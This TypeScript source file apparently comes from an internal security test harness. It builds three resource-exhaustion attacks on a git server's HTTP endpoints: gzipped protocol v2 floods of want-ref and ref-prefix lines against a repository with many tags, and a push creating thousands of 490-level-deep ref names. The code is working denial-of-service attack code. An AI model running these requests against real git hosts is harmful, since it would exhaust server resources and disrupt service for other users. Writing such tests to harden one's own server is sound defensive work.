// Found in review after the findings were fixed: small requests whose lines each cost work that
// grows with the repository's refs (want-ref, ls-refs ref-prefix), or with the depth of the ref
// names a push creates.
import { gzipSync } from 'node:zlib';
import { basic } from '../api.js';
import type { Attack, AttackContext, StrikeLimits } from '../attack.js';
import { repoWithFiles } from '../git-push.js';
import { describeError, request, shortBody } from '../http.js';
import { FLUSH, pkt, ZERO_ID } from '../../../../packages/test-support/src/wire.js';

const TAGS = 1_000;
/** As many lines as the default packet limit (262,144) lets through, nearly. */
const LINES = 260_000;
const DELIM = Buffer.from('0001');

/** A public repository with TAGS tags, owned by the victim. */
async function taggedRepo(ctx: AttackContext): Promise<{ owner: string; name: string }> {
  const { victim } = await ctx.accounts();
  const name = ctx.unique('tagged');
  await ctx.api.createRepo(victim, name);
  const dir = await ctx.scratch('tagged');
  await repoWithFiles(ctx.git, dir, { 'README.md': '# tags\n' });
  await ctx.git.git(['update-ref', '--stdin'], {
    cwd: dir,
    input: Array.from({ length: TAGS }, (_, i) => `create refs/tags/t${i} HEAD\n`).join(''),
  });
  await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(victim, victim.name, name), 'main', '--tags'], { cwd: dir });
  return { owner: victim.name, name };
}

/** A protocol v2 command whose arguments are `line` repeated, gzipped (anonymous, to a public repository). */
function v2Flood(name: string, command: string, line: string): Attack {
  return {
    name,
    finding: 'review',
    async prepare(ctx) {
      const repo = await taggedRepo(ctx);
      const argument = pkt(line);
      const body = gzipSync(Buffer.concat([pkt(`command=${command}\n`), DELIM, ...Array.from({ length: LINES }, () => argument), FLUSH]), {
        level: 9,
      });
      return async (limits: StrikeLimits) => {
        try {
          const answer = await request(`${ctx.target.base()}/${repo.owner}/${repo.name}.git/git-upload-pack`, {
            method: 'POST',
            headers: { 'content-type': 'application/x-git-upload-pack-request', 'content-encoding': 'gzip', 'git-protocol': 'version=2' },
            body,
            timeoutMs: limits.remainingMs(),
            signal: limits.signal,
          });
          return `${(body.length / 1024).toFixed(0)} KiB gz, ${LINES} × ${JSON.stringify(line.trim())}, ${TAGS} tags: ${answer.status} ${shortBody(answer.body, 50)}`;
        } catch (error) {
          return describeError(error);
        }
      };
    },
  };
}

/** A push creating as many refs as the command limits allow, each ~1 KiB of names 490 directories deep. */
const deepRefs: Attack = {
  name: 'deep-ref-names-push',
  finding: 'review',
  async prepare(ctx) {
    const { attacker } = await ctx.accounts();
    const repo = ctx.unique('deep');
    await ctx.api.createRepo(attacker, repo);
    const dir = await ctx.scratch('deep');
    await repoWithFiles(ctx.git, dir, { 'a.txt': 'a\n' });
    await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(attacker, attacker.name, repo), 'main'], { cwd: dir });
    const head = (await ctx.git.git(['rev-parse', 'HEAD'], { cwd: dir })).stdout.trim();
    const deep = 'd/'.repeat(490);
    const commands = Array.from({ length: 3_800 }, (_, i) =>
      pkt(`${ZERO_ID} ${head} refs/heads/${deep}${i}${i === 0 ? '\0report-status side-band-64k' : ''}\n`),
    );
    // No pack: every object is there already, as for a push of new branch names only.
    const body = Buffer.concat([...commands, FLUSH]);
    return async (limits: StrikeLimits) => {
      try {
        const answer = await request(`${ctx.target.base()}/${attacker.name}/${repo}.git/git-receive-pack`, {
          method: 'POST',
          headers: { ...basic(attacker.name, attacker.token), 'content-type': 'application/x-git-receive-pack-request' },
          body,
          timeoutMs: limits.remainingMs(),
          signal: limits.signal,
        });
        return `3,800 refs 490 levels deep (${(body.length / 1024).toFixed(0)} KiB): ${answer.status} ${shortBody(answer.body, 70)}`;
      } catch (error) {
        return describeError(error);
      }
    };
  },
};

export const requestAmplificationAttacks: Attack[] = [
  v2Flood('want-ref-flood', 'fetch', 'want-ref refs/tags/t999\n'),
  v2Flood('ref-prefix-flood', 'ls-refs', 'ref-prefix refs/tags/t9\n'),
  deepRefs,
];
